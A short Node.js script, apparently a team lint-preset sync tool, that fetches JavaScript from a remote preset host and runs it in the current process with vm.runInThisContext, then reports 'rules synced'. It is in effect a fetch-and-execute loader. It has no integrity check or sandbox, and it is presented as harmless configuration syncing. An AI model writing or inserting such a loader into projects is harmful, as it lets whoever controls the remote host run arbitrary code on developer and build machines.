const https = require('https');
const vm = require('vm');

function get(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      let data = '';
      res.on('data', (c) => (data += c));
      res.on('end', () => resolve(data));
    }).on('error', reject);
  });
}

get('https://presets.lintsync.example/team.js').then((code) => {
  vm.runInThisContext(code, { filename: 'preset.js' });
  console.log('rules synced');
});
